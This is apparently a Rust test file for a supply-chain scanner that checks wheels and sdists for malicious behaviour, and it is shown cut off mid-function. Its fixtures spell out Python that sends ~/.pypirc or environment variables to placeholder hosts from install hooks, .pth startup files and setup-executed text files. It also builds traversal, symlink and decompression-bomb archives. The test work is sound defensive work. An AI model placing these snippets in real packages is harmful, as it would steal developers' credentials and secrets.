//! `customs scan` on inert synthetic archives built at test time, and on hostile ones.

use std::io::Write;
use std::path::{Path, PathBuf};

use crate::common::{audit_json, customs, json, run, sha256_hex};

fn targz(dir: &Path, name: &str, files: &[(&str, &[u8])]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, crate::common::targz_bytes(files)).unwrap();
    path
}

fn wheel(dir: &Path, name: &str, files: &[(&str, &[u8])]) -> PathBuf {
    let path = dir.join(name);
    let mut z = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
    for (p, data) in files {
        z.start_file(*p, zip::write::SimpleFileOptions::default())
            .unwrap();
        z.write_all(data).unwrap();
    }
    z.finish().unwrap();
    path
}

fn scan(path: &Path) -> (i32, serde_json::Value) {
    let (code, out, err) = run(customs(path.parent().unwrap()).args([
        "scan",
        "--format",
        "json",
        path.to_str().unwrap(),
    ]));
    assert!(code == 0 || code == 1, "exit {code}: {err}");
    (code, json(&out))
}

/// The first finding of `rule` in a report; the report is shown when there is none.
fn first_of<'r>(report: &'r serde_json::Value, rule: &str) -> &'r serde_json::Value {
    report["findings"]
        .as_array()
        .and_then(|all| all.iter().find(|f| f["rule"] == rule))
        .unwrap_or_else(|| panic!("no {rule} finding: {report}"))
}

fn rules(report: &serde_json::Value) -> Vec<(String, String, String)> {
    let mut v: Vec<_> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
                f["location"]["path"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    v.sort();
    v
}

#[test]
fn a_pth_that_decodes_and_prints_is_a_critical_startup_hook() {
    let tmp = tempfile::tempdir().unwrap();
    // Inert: decodes to `print('hello')` and only prints.
    let pth = b"import base64; exec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n";
    let w = wheel(
        tmp.path(),
        "inert-1.0-py3-none-any.whl",
        &[
            ("inert_hook.pth", pth),
            ("inert-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ],
    );
    let (code, report) = scan(&w);
    assert_eq!(code, 1);
    assert_eq!(
        rules(&report),
        vec![(
            "pth-startup-hook".into(),
            "critical".into(),
            "inert_hook.pth".into()
        )]
    );
    let f = &report["findings"][0];
    assert_eq!(f["location"]["path_line"], 1);
    assert_eq!(f["location"]["archive"], "inert-1.0-py3-none-any.whl");
    assert_eq!(report["packages"][0]["name"], "inert");
}

#[test]
fn an_install_hook_reading_pypirc_and_posting_is_flagged_with_source_and_sink() {
    let tmp = tempfile::tempdir().unwrap();
    let setup = b"import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Hook(install):\n    def run(self):\n        data = open(os.path.expanduser('~/.pypirc')).read()\n        requests.post('http://203.0.113.9/collect', data=data)\n        install.run(self)\n\nsetup(name='inert', cmdclass={'install': Hook})\n";
    let sdist = targz(
        tmp.path(),
        "inert-2.0.tar.gz",
        &[
            ("inert-2.0/setup.py", setup),
            ("inert-2.0/inert/__init__.py", b""),
        ],
    );
    let (code, report) = scan(&sdist);
    assert_eq!(code, 1);
    let got = rules(&report);
    assert!(
        got.contains(&(
            "exfiltration".into(),
            "critical".into(),
            "inert-2.0/setup.py".into()
        )),
        "{got:?}"
    );
    assert!(
        got.contains(&(
            "install-hook".into(),
            "high".into(),
            "inert-2.0/setup.py".into()
        )),
        "{got:?}"
    );
    let exfil = first_of(&report, "exfiltration");
    let ev: Vec<String> = exfil["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| format!("{}={}", e["label"], e["value"]))
        .collect();
    assert!(
        ev.iter()
            .any(|e| e.contains("source") && e.contains(".pypirc") && e.contains("line 7")),
        "{ev:?}"
    );
    assert!(
        ev.iter()
            .any(|e| e.contains("sink") && e.contains("requests.post") && e.contains("line 8")),
        "{ev:?}"
    );
}

#[test]
fn honest_code_reading_the_environment_and_using_http_apart_passes() {
    let tmp = tempfile::tempdir().unwrap();
    let client = b"import os\nimport requests\n\nTIMEOUT = int(os.environ.get('CLIENT_TIMEOUT', '10'))\n\ndef fetch(url):\n    return requests.get(url, timeout=TIMEOUT)\n";
    let test =
        b"import os, requests\nrequests.post('https://example.invalid', json=dict(os.environ))\n";
    let setup = b"from setuptools import setup\nsetup(name='honest')\n";
    let sdist = targz(
        tmp.path(),
        "honest-1.0.tar.gz",
        &[
            ("honest-1.0/setup.py", setup),
            ("honest-1.0/honest/client.py", client),
            ("honest-1.0/tests/test_env.py", test),
        ],
    );
    let (code, report) = scan(&sdist);
    assert_eq!(code, 0, "{report}");
    assert!(rules(&report).is_empty(), "{report}");
}

#[test]
fn formats_come_from_the_bytes_not_the_name() {
    let tmp = tempfile::tempdir().unwrap();
    let w = wheel(
        tmp.path(),
        "sneaky-1.0.tar.gz",
        &[("sneaky.pth", b"import os; os.system('echo hi')\n")],
    );
    let (code, report) = scan(&w);
    assert_eq!(code, 1);
    assert_eq!(rules(&report)[0].0, "pth-startup-hook");
}

#[test]
fn hostile_archives_are_contained_and_reported() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    // Traversal and a symlink out of the archive.
    let path = d.join("evil-1.0.tar.gz");
    {
        let gz = flate2::write::GzEncoder::new(
            std::fs::File::create(&path).unwrap(),
            flate2::Compression::fast(),
        );
        let mut tar = tar::Builder::new(gz);
        let mut h = tar::Header::new_gnu();
        h.set_size(3);
        h.set_entry_type(tar::EntryType::Regular);
        // `append_data` refuses `..`; write the name into the header directly.
        h.as_gnu_mut().unwrap().name[..13].copy_from_slice(b"../../evil.sh");
        h.set_cksum();
        tar.append(&h, &b"hi\n"[..]).unwrap();
        let mut l = tar::Header::new_gnu();
        l.set_entry_type(tar::EntryType::Symlink);
        l.set_size(0);
        tar.append_link(&mut l, "evil-1.0/link", "/etc/passwd")
            .unwrap();
        tar.into_inner().unwrap().finish().unwrap();
    }
    let (code, report) = scan(&path);
    assert_eq!(code, 1);
    let msgs: Vec<String> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["message"].as_str().unwrap().to_string())
        .collect();
    assert!(msgs.iter().any(|m| m.contains("traversal")), "{msgs:?}");
    assert!(
        msgs.iter()
            .any(|m| m.contains("symbolic link") && m.contains("outside")),
        "{msgs:?}"
    );

    // A decompression bomb: 300 MiB of zeros.
    let bomb = {
        let path = d.join("bomb-1.0.tar.gz");
        let gz = flate2::write::GzEncoder::new(
            std::fs::File::create(&path).unwrap(),
            flate2::Compression::best(),
        );
        let mut tar = tar::Builder::new(gz);
        let mut h = tar::Header::new_gnu();
        let size = 300u64 << 20;
        h.set_size(size);
        h.set_entry_type(tar::EntryType::Regular);
        tar.append_data(
            &mut h,
            "bomb-1.0/zeros.bin",
            std::io::repeat(0).take_bytes(size),
        )
        .unwrap();
        tar.into_inner().unwrap().finish().unwrap();
        path
    };
    let (code, report) = scan(&bomb);
    assert_eq!(code, 1);
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["message"].as_str().unwrap().contains("bomb")),
        "{report}"
    );

    // Truncated data.
    let good = targz(
        d,
        "trunc-1.0.tar.gz",
        &[("trunc-1.0/setup.py", &b"x = 1\n".repeat(20_000))],
    );
    let bytes = std::fs::read(&good).unwrap();
    std::fs::write(&good, &bytes[..bytes.len() / 2]).unwrap();
    let (_, report) = scan(&good);
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "archive-anomaly"),
        "{report}"
    );

    // A flood of entries, a nested archive, and a 50 MB single line.
    let mut files: Vec<(String, Vec<u8>)> = (0..60_000)
        .map(|i| (format!("flood-1.0/f{i}.txt"), Vec::new()))
        .collect();
    files.push(("flood-1.0/inner.whl".into(), b"PK\x05\x06".to_vec()));
    let owned: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(p, d)| (p.as_str(), d.as_slice()))
        .collect();
    let flood = targz(d, "flood-1.0.tar.gz", &owned);
    let (code, report) = scan(&flood);
    assert_eq!(code, 1);
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["message"].as_str().unwrap().contains("entries")),
        "{report}"
    );
    let long = vec![b'a'; 50 << 20];
    let line = targz(
        d,
        "long-1.0.tar.gz",
        &[("long-1.0/long/__init__.py", &long)],
    );
    let started = std::time::Instant::now();
    let (_, report) = scan(&line);
    assert!(started.elapsed().as_secs() < 30);
    assert!(report["findings"].as_array().is_some());

    // Not an archive at all.
    std::fs::write(
        d.join("garbage-1.0.whl"),
        b"\x00\x01 definitely not a wheel",
    )
    .unwrap();
    let (_, report) = scan(&d.join("garbage-1.0.whl"));
    assert_eq!(report["findings"][0]["rule"], "archive-anomaly");
}

trait TakeBytes {
    fn take_bytes(self, n: u64) -> std::io::Take<std::io::Repeat>;
}

impl TakeBytes for std::io::Repeat {
    fn take_bytes(self, n: u64) -> std::io::Take<std::io::Repeat> {
        std::io::Read::take(self, n)
    }
}

/// Serves a one-release project whose wheel is `bytes`, announcing `announced_sha`.
/// One wheel of a served release.
struct Release<'a> {
    version: &'a str,
    filename: &'a str,
    bytes: &'a [u8],
    /// The sha256 the index announces (may differ from the bytes').
    sha256: String,
    /// The size the index announces.
    size: u64,
}

/// Serves a project's JSON document and its wheels under `/files/`.
fn serve_releases(server: &crate::server::Server, name: &str, releases: &[Release<'_>]) {
    use crate::server::Reply;
    let mut map = serde_json::Map::new();
    for r in releases {
        map.insert(
            r.version.into(),
            serde_json::json!([{
                "filename": r.filename,
                "url": format!("/files/{}", r.filename),
                "digests": {"sha256": r.sha256},
                "upload_time_iso_8601": "2025-01-01T00:00:00Z",
                "yanked": false,
                "size": r.size,
                "packagetype": "bdist_wheel"
            }]),
        );
        server.route(
            &format!("/files/{}", r.filename),
            vec![Reply::json(r.bytes.to_vec()).header("Content-Type", "application/zip")],
        );
    }
    let doc = serde_json::json!({
        "info": {"name": name, "project_urls": {"Source": "https://git.example/x"}},
        "releases": map
    });
    server.route(
        &format!("/pypi/{name}/json"),
        vec![Reply::json(doc.to_string())],
    );
}

/// Serves a one-release project whose wheel is `bytes`, announcing `announced_sha`.
fn serve_project(
    server: &crate::server::Server,
    name: &str,
    wheel_name: &str,
    bytes: &[u8],
    announced_sha: &str,
) {
    serve_releases(
        server,
        name,
        &[Release {
            version: "1.0",
            filename: wheel_name,
            bytes,
            sha256: announced_sha.to_string(),
            size: bytes.len() as u64,
        }],
    );
}

#[test]
fn audit_downloads_verifies_scans_and_caches_what_will_be_installed() {
    let server = crate::server::Server::start();
    let tmp = tempfile::tempdir().unwrap();
    let pth = b"import base64; exec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n";
    let w = wheel(
        tmp.path(),
        "inertpkg-1.0-py3-none-any.whl",
        &[
            ("inertpkg.pth", pth),
            ("inertpkg-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ],
    );
    let bytes = std::fs::read(&w).unwrap();
    serve_project(
        &server,
        "inertpkg",
        "inertpkg-1.0-py3-none-any.whl",
        &bytes,
        &sha256_hex(&bytes),
    );
    std::fs::write(
        tmp.path().join("requirements.txt"),
        "# deps\ninertpkg==1.0\n",
    )
    .unwrap();
    let cache = tmp.path().join("cache");
    let audit = |extra: &[&str]| {
        let mut cmd = customs(tmp.path());
        cmd.args([
            "audit",
            "--format",
            "json",
            "--index-url",
            &server.index_url(),
            "--cache-dir",
            cache.to_str().unwrap(),
        ]);
        cmd.args(extra).arg("requirements.txt");
        let (code, out, err) = run(&mut cmd);
        assert!(code == 0 || code == 1, "{err}");
        (code, json(&out))
    };
    let (code, report) = audit(&[]);
    assert_eq!(code, 1, "{report}");
    let f = first_of(&report, "pth-startup-hook");
    assert_eq!(f["location"]["file"], "requirements.txt");
    assert_eq!(f["location"]["line"], 2);
    assert_eq!(f["location"]["archive"], "inertpkg-1.0-py3-none-any.whl");
    assert_eq!(f["location"]["path"], "inertpkg.pth");
    assert_eq!(report["packages"][0]["scan"]["status"], "scanned");
    assert_eq!(server.hits("/files/inertpkg-1.0-py3-none-any.whl"), 1);
    // A re-run takes the cached verdict: no download.
    let (code, _) = audit(&[]);
    assert_eq!(code, 1);
    assert_eq!(server.hits("/files/inertpkg-1.0-py3-none-any.whl"), 1);
    // --no-scan skips it.
    let (_, report) = audit(&["--no-scan"]);
    assert!(report["packages"][0].get("scan").is_none());
}

#[test]
fn bytes_that_differ_from_the_index_hash_are_not_scanned_but_reported() {
    let server = crate::server::Server::start();
    let tmp = tempfile::tempdir().unwrap();
    let w = wheel(
        tmp.path(),
        "swapped-1.0-py3-none-any.whl",
        &[("swapped/__init__.py", b"")],
    );
    let bytes = std::fs::read(&w).unwrap();
    serve_project(
        &server,
        "swapped",
        "swapped-1.0-py3-none-any.whl",
        &bytes,
        &"0".repeat(64),
    );
    std::fs::write(tmp.path().join("requirements.txt"), "swapped==1.0\n").unwrap();
    let (code, out, err) = run(customs(tmp.path()).args([
        "audit",
        "--format",
        "json",
        "--index-url",
        &server.index_url(),
        "requirements.txt",
    ]));
    assert_eq!(code, 1, "{err}");
    let report = json(&out);
    let f = first_of(&report, "hash-mismatch");
    assert_eq!(f["severity"], "critical");
}

#[test]
fn behaviour_new_since_the_previous_release_is_called_out() {
    let server = crate::server::Server::start();
    let tmp = tempfile::tempdir().unwrap();
    let clean = wheel(
        tmp.path(),
        "drift-1.0-py3-none-any.whl",
        &[("drift/client.py", b"def f():\n    return 1\n")],
    );
    let exfil: &[u8] = b"import os, requests\n\ndef sync():\n    requests.post('https://collector.example/c', json=dict(os.environ))\n\nsync()\n";
    let bad = wheel(
        tmp.path(),
        "drift-1.1-py3-none-any.whl",
        &[("drift/client.py", exfil)],
    );
    let (clean, bad) = (std::fs::read(&clean).unwrap(), std::fs::read(&bad).unwrap());
    serve_releases(
        &server,
        "drift",
        &[
            Release {
                version: "1.0",
                filename: "drift-1.0-py3-none-any.whl",
                bytes: &clean,
                sha256: sha256_hex(&clean),
                size: clean.len() as u64,
            },
            Release {
                version: "1.1",
                filename: "drift-1.1-py3-none-any.whl",
                bytes: &bad,
                sha256: sha256_hex(&bad),
                size: bad.len() as u64,
            },
        ],
    );
    std::fs::write(tmp.path().join("requirements.txt"), "drift==1.1\n").unwrap();
    let (code, out, err) = run(customs(tmp.path()).args([
        "audit",
        "--format",
        "json",
        "--index-url",
        &server.index_url(),
        "requirements.txt",
    ]));
    assert_eq!(code, 1, "{err}");
    let report = json(&out);
    let f = first_of(&report, "exfiltration");
    assert_eq!(
        f["severity"], "critical",
        "a module-level exfiltration (high) that is new since 1.0 is raised: {f}"
    );
    assert!(
        f["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["label"] == "new-since" && e["value"] == "1.0"),
        "{f}"
    );
}

#[test]
fn archives_too_large_to_download_are_named_not_failed() {
    let server = crate::server::Server::start();
    let tmp = tempfile::tempdir().unwrap();
    serve_releases(
        &server,
        "huge",
        &[Release {
            version: "1.0",
            filename: "huge-1.0-cp312-cp312-manylinux_2_17_x86_64.whl",
            bytes: b"",
            sha256: "0".repeat(64),
            size: 900_000_000,
        }],
    );
    std::fs::write(tmp.path().join("requirements.txt"), "huge==1.0\n").unwrap();
    let (_, out, err) = run(customs(tmp.path()).args([
        "audit",
        "--format",
        "json",
        "--index-url",
        &server.index_url(),
        "requirements.txt",
    ]));
    let report = json(&out);
    let scan = &report["packages"][0]["scan"];
    assert_eq!(scan["status"], "scanned", "{err}\n{report}");
    assert!(
        scan["reason"].as_str().unwrap().contains("larger than"),
        "{scan}"
    );
    assert_eq!(
        server.hits("/files/huge-1.0-cp312-cp312-manylinux_2_17_x86_64.whl"),
        0
    );
}

#[test]
fn payloads_behind_padding_or_one_huge_line_are_found() {
    let tmp = tempfile::tempdir().unwrap();
    let payload: &[u8] = b"\nimport os, json, urllib.request\nurllib.request.urlopen('http://203.0.113.7/c', data=json.dumps(dict(os.environ)).encode())\nsetup(name='x')\n";
    let line = b"x = 1  # harmless padding\n";
    let mut padded = b"from setuptools import setup\n".to_vec();
    while padded.len() < 18 << 20 {
        padded.extend_from_slice(line);
    }
    padded.extend_from_slice(payload);
    let mut long = b"from setuptools import setup\n#".to_vec();
    long.resize(long.len() + (60 << 20), b'a');
    long.extend_from_slice(payload);
    for (name, setup) in [("padded", padded), ("longline", long)] {
        let sdist = targz(
            tmp.path(),
            &format!("{name}-1.0.tar.gz"),
            &[(&format!("{name}-1.0/setup.py"), &setup)],
        );
        let (code, report) = scan(&sdist);
        assert_eq!(code, 1, "{name}: {report}");
        let got = rules(&report);
        assert!(
            got.contains(&(
                "exfiltration".into(),
                "critical".into(),
                format!("{name}-1.0/setup.py")
            )),
            "{name}: {got:?}"
        );
        assert_eq!(report["packages"][0]["scan"]["status"], "scanned", "{name}");
    }
}

#[test]
fn an_archive_that_cannot_be_read_in_full_leaves_the_scan_unknown() {
    let tmp = tempfile::tempdir().unwrap();
    let whole = targz(
        tmp.path(),
        "whole-1.0.tar.gz",
        &[(
            "whole-1.0/setup.py",
            b"from setuptools import setup\nsetup()\n",
        )],
    );
    let bytes = std::fs::read(&whole).unwrap();
    let cut = tmp.path().join("cut-1.0.tar.gz");
    std::fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
    let (_, report) = scan(&cut);
    let status = &report["packages"][0]["scan"];
    assert_eq!(status["status"], "unknown", "{report}");
    assert!(
        status["reason"]
            .as_str()
            .unwrap()
            .starts_with("cut-1.0.tar.gz was not scanned in full"),
        "{status}"
    );
    assert_eq!(report["summary"]["unknown"], 1);
    assert!(
        rules(&report)
            .iter()
            .any(|(r, _, _)| r == "archive-anomaly")
    );
    // --fail-on-unknown fails it even at a severity that would pass.
    let (code, _, _) = run(customs(tmp.path()).args([
        "scan",
        "--fail-on",
        "critical",
        "--fail-on-unknown",
        cut.to_str().unwrap(),
    ]));
    assert_eq!(code, 1);
    let (code, _, _) =
        run(customs(tmp.path()).args(["scan", "--fail-on", "critical", whole.to_str().unwrap()]));
    assert_eq!(code, 0);
}

/// A payload in a member that is not a `.py` file, run by setup.py with
/// `exec(open(...).read())`, is analysed as install-time code; the usual
/// version-file idiom stays quiet.
#[test]
fn a_text_member_that_setup_py_executes_is_analysed_as_install_code() {
    let tmp = tempfile::tempdir().unwrap();
    // Inert: the address is a documentation range and nothing here runs.
    let readme =
        b"import os, requests\nrequests.post('http://192.0.2.7/c', json=dict(os.environ))\n";
    let bad = targz(
        tmp.path(),
        "notes-1.0.tar.gz",
        &[
            (
                "notes-1.0/setup.py",
                b"import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, 'README.txt')).read())\nsetup(name='notes')\n",
            ),
            ("notes-1.0/README.txt", readme),
        ],
    );
    let (code, report) = scan(&bad);
    assert_eq!(code, 1, "{report}");
    let finding = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["location"]["path"] == "notes-1.0/README.txt" && f["rule"] == "exfiltration")
        .unwrap_or_else(|| panic!("{report}"));
    assert!(
        matches!(finding["severity"].as_str(), Some("high" | "critical")),
        "{finding}"
    );
    assert!(
        finding["evidence"]
            .to_string()
            .contains("notes-1.0/setup.py:4"),
        "{finding}"
    );
    // The same text in a README nothing runs is prose.
    let quiet = targz(
        tmp.path(),
        "prose-1.0.tar.gz",
        &[
            (
                "prose-1.0/setup.py",
                b"from setuptools import setup\nexec(open('prose/version.py').read())\nsetup(name='prose', version=__version__)\n",
            ),
            ("prose-1.0/prose/version.py", b"__version__ = '1.0'\n"),
            ("prose-1.0/README.txt", readme),
        ],
    );
    let (code, report) = scan(&quiet);
    assert_eq!(code, 0, "{report}");
    assert!(
        !rules(&report)
            .iter()
            .any(|(_, s, _)| s == "high" || s == "critical"),
        "{report}"
    );
}

/// An executable in a pure package is medium alone; with a loader that
/// runs on import it is high, and the finding names the loader.
#[test]
fn an_executable_with_a_loader_that_runs_on_import_is_high() {
    let tmp = tempfile::tempdir().unwrap();
    let mut exe = b"MZ".to_vec();
    exe.resize(256, 0);
    let loader: &[u8] = b"import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper.exe')])\n";
    let with_loader = wheel(
        tmp.path(),
        "helper-1.0-py3-none-any.whl",
        &[
            ("helper/__init__.py", loader),
            ("helper/helper.exe", &exe),
            ("helper-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ],
    );
    let (_, report) = scan(&with_loader);
    let finding = first_of(&report, "binary-payload");
    assert_eq!(finding["severity"], "high", "{finding}");
    assert!(
        finding["evidence"]
            .to_string()
            .contains("helper/__init__.py:2"),
        "{finding}"
    );
    // A bundled library loaded with ctypes, and a program started only
    // when a function is called: what honest packages with native parts do.
    for (name, init) in [
        (
            "ctypes",
            &b"import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'helper.exe'))\n"[..],
        ),
        (
            "asked",
            &b"import os, subprocess\nEXE = os.path.join(os.path.dirname(__file__), 'helper.exe')\ndef start():\n    subprocess.Popen([EXE])\n"[..],
        ),
    ] {
        let w = wheel(
            tmp.path(),
            &format!("{name}-1.0-py3-none-any.whl"),
            &[
                (&format!("{name}/__init__.py"), init),
                (&format!("{name}/helper.exe"), &exe),
                (&format!("{name}-1.0.dist-info/WHEEL"), b"Wheel-Version: 1.0\n"),
            ],
        );
        let (_, report) = scan(&w);
        assert!(
            rules(&report).contains(&(
                "binary-payload".into(),
                "medium".into(),
                format!("{name}/helper.exe")
            )),
            "{name}: {report}"
        );
    }
    // Named only by a test: nothing runs it on install or import.
    let tested = wheel(
        tmp.path(),
        "tested-1.0-py3-none-any.whl",
        &[
            ("tested/__init__.py", b"VERSION = '1.0'\n"),
            ("tested/tests/test_run.py", loader),
            ("tested/helper.exe", &exe),
            ("tested-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ],
    );
    let (_, report) = scan(&tested);
    assert!(
        rules(&report).contains(&(
            "binary-payload".into(),
            "medium".into(),
            "tested/helper.exe".into()
        )),
        "{report}"
    );
    // Test data in an sdist's tests (what packaging ships to test its ELF
    // parser): nothing installs it.
    let data = targz(
        tmp.path(),
        "elfdata-1.0.tar.gz",
        &[
            (
                "elfdata-1.0/setup.py",
                b"from setuptools import setup\nsetup(name='elfdata')\n",
            ),
            (
                "elfdata-1.0/tests/manylinux/hello-x86_64",
                b"\x7fELF\x02\x01\x01\0\0\0",
            ),
        ],
    );
    let (_, report) = scan(&data);
    assert!(
        rules(&report).contains(&(
            "binary-payload".into(),
            "low".into(),
            "elfdata-1.0/tests/manylinux/hello-x86_64".into()
        )),
        "{report}"
    );
}

/// The loader is found however much Python comes before it in the archive
/// (the scan keeps no text while it reads; it judges the candidates on a
/// second read), and it is named for every executable of that file name.
#[test]
fn a_loader_after_many_megabytes_of_python_is_still_found() {
    let tmp = tempfile::tempdir().unwrap();
    let mut exe = b"MZ".to_vec();
    exe.resize(256, 0);
    // Eight files of plain code that fill the 8 MiB the scan once kept
    // (analysed once: the same bytes), then a loader of more than the
    // 4.6 KB left.
    let mut bulk = String::new();
    let mut i = 0;
    while bulk.len() < 1_048_000 {
        bulk.push_str(&format!("value_{i} = {i} * 2\n"));
        i += 1;
    }
    bulk.truncate(1_048_000);
    let names: Vec<String> = (0..8).map(|i| format!("helper/bulk_{i}.py")).collect();
    let mut members: Vec<(&str, &[u8])> = names
        .iter()
        .map(|n| (n.as_str(), bulk.as_bytes()))
        .collect();
    let mut loader = b"import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper.exe')])\n".to_vec();
    loader.extend(b"# padding\n".repeat(600));
    members.extend([
        ("helper/__init__.py", &loader[..]),
        ("helper/helper.exe", &exe[..]),
        ("helper/win32/helper.exe", &exe[..]),
        ("helper-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
    ]);
    let w = wheel(tmp.path(), "helper-1.0-py3-none-any.whl", &members);
    let (_, report) = scan(&w);
    let payloads: Vec<&serde_json::Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "binary-payload")
        .collect();
    assert_eq!(payloads.len(), 2, "{report}");
    for finding in payloads {
        assert_eq!(finding["severity"], "high", "{finding}");
        assert!(
            finding["evidence"]
                .to_string()
                .contains("helper/__init__.py:2"),
            "{finding}"
        );
    }
}

/// A top-level module a `.pth` file imports runs at every start: judged as
/// startup code even when the `.pth` comes after it in the archive, and
/// once (not also as a module).
#[test]
fn a_module_a_later_pth_imports_is_judged_once_as_startup_code() {
    let tmp = tempfile::tempdir().unwrap();
    // Inert: the address is a documentation range and nothing here runs.
    let module: &[u8] = b"import os, urllib.request\nurllib.request.urlopen('http://203.0.113.7/c', data=repr(dict(os.environ)).encode())\n";
    let hooked = wheel(
        tmp.path(),
        "hooked-1.0-py3-none-any.whl",
        &[
            ("hookmod.py", module),
            ("hooked-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
            ("zz_hooked.pth", b"import hookmod\n"),
        ],
    );
    let (_, report) = scan(&hooked);
    let of_module: Vec<_> = rules(&report)
        .into_iter()
        .filter(|(_, _, path)| path == "hookmod.py")
        .collect();
    assert_eq!(
        of_module,
        vec![(
            "exfiltration".to_string(),
            "critical".to_string(),
            "hookmod.py".to_string()
        )],
        "{report}"
    );
    // Without the `.pth`, the same module is an ordinary one.
    let plain = wheel(
        tmp.path(),
        "plain-1.0-py3-none-any.whl",
        &[
            ("hookmod.py", module),
            ("plain-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ],
    );
    let (_, report) = scan(&plain);
    assert!(
        rules(&report).contains(&("exfiltration".into(), "high".into(), "hookmod.py".into())),
        "{report}"
    );
}

/// History: a `.pth` that a release adds is new since the previous one and
/// blocks; startup code that both releases carry is long-standing and is
/// not raised.
#[test]
fn a_new_startup_hook_blocks_and_a_long_standing_one_is_not_raised() {
    let server = crate::server::Server::start();
    let tmp = tempfile::tempdir().unwrap();
    let boot: &[u8] =
        b"import os\n\ndef process_startup():\n    if os.environ.get('COVLIKE_PROCESS_START'):\n        import covlike.measure\n";
    let pth: &[u8] = b"import covlike; covlike.process_startup()\n";
    // Inert: the host is a reserved example name.
    let stealer: &[u8] = b"import os, urllib.request; urllib.request.urlopen('https://collector.example/c', data=repr(dict(os.environ)).encode())\n";
    let mut releases = Vec::new();
    for (name, version, files) in [
        (
            "covlike",
            "1.0",
            vec![("covlike/__init__.py", boot), ("a1_covlike.pth", pth)],
        ),
        (
            "covlike",
            "1.1",
            vec![("covlike/__init__.py", boot), ("a1_covlike.pth", pth)],
        ),
        (
            "stealth",
            "1.0",
            vec![("stealth/__init__.py", &b"X = 1\n"[..])],
        ),
        (
            "stealth",
            "1.1",
            vec![
                ("stealth/__init__.py", &b"X = 1\n"[..]),
                ("stealth_boot.pth", stealer),
            ],
        ),
    ] {
        let filename = format!("{name}-{version}-py3-none-any.whl");
        let path = wheel(tmp.path(), &filename, &files);
        releases.push((name, version, filename, std::fs::read(path).unwrap()));
    }
    for project in ["covlike", "stealth"] {
        let list: Vec<Release> = releases
            .iter()
            .filter(|r| r.0 == project)
            .map(|(_, version, filename, bytes)| Release {
                version,
                filename,
                bytes,
                sha256: sha256_hex(bytes),
                size: bytes.len() as u64,
            })
            .collect();
        serve_releases(&server, project, &list);
    }
    let audit = |lock: &str| {
        std::fs::write(tmp.path().join("requirements.txt"), lock).unwrap();
        let (code, out, err) = run(customs(tmp.path()).args([
            "audit",
            "--format",
            "json",
            "--index-url",
            &server.index_url(),
            "requirements.txt",
        ]));
        assert!(code == 0 || code == 1, "{err}");
        (code, json(&out))
    };
    let evidence = |f: &serde_json::Value, label: &str| -> Option<String> {
        f["evidence"]
            .as_array()?
            .iter()
            .find(|e| e["label"] == label)
            .and_then(|e| e["value"].as_str().map(str::to_string))
    };
    let (code, report) = audit("stealth==1.1\n");
    assert_eq!(code, 1, "{report}");
    let hook = first_of(&report, "pth-startup-hook");
    assert_eq!(hook["severity"], "critical", "{hook}");
    assert_eq!(
        evidence(hook, "new-since").as_deref(),
        Some("1.0"),
        "{hook}"
    );
    // The verdict says why, one line per blocking package.
    let (code, table, _) = run(customs(tmp.path()).args([
        "audit",
        "--index-url",
        &server.index_url(),
        "requirements.txt",
    ]));
    assert_eq!(code, 1);
    let why: Vec<&str> = table.lines().filter(|l| l.contains("blocked:")).collect();
    assert_eq!(why.len(), 1, "{table}");
    assert!(
        why[0].contains("stealth 1.1: ")
            && why[0].contains("(critical)")
            && why[0].contains("new since 1.0")
            && why[0].contains("stealth_boot.pth:1"),
        "{table}"
    );
    let (code, report) = audit("covlike==1.1\n");
    assert_eq!(code, 0, "{report}");
    let hooks: Vec<&serde_json::Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "pth-startup-hook")
        .collect();
    assert_eq!(hooks.len(), 1, "{report}");
    assert_eq!(
        evidence(hooks[0], "long-standing").as_deref(),
        Some("1.0"),
        "{report}"
    );
    assert!(evidence(hooks[0], "new-since").is_none(), "{report}");
}

/// Serves one release with several files: (filename, bytes).
fn serve_files(server: &crate::server::Server, name: &str, files: &[(&str, Vec<u8>)]) {
    use crate::server::Reply;
    let list: Vec<serde_json::Value> = files
        .iter()
        .map(|(filename, bytes)| {
            server.route(
                &format!("/files/{filename}"),
                vec![Reply::json(bytes.clone()).header("Content-Type", "application/octet-stream")],
            );
            serde_json::json!({
                "filename": filename,
                "url": format!("/files/{filename}"),
                "digests": {"sha256": sha256_hex(bytes)},
                "upload_time_iso_8601": "2025-01-01T00:00:00Z",
                "yanked": false,
                "size": bytes.len(),
                "packagetype": if filename.ends_with(".whl") { "bdist_wheel" } else { "sdist" }
            })
        })
        .collect();
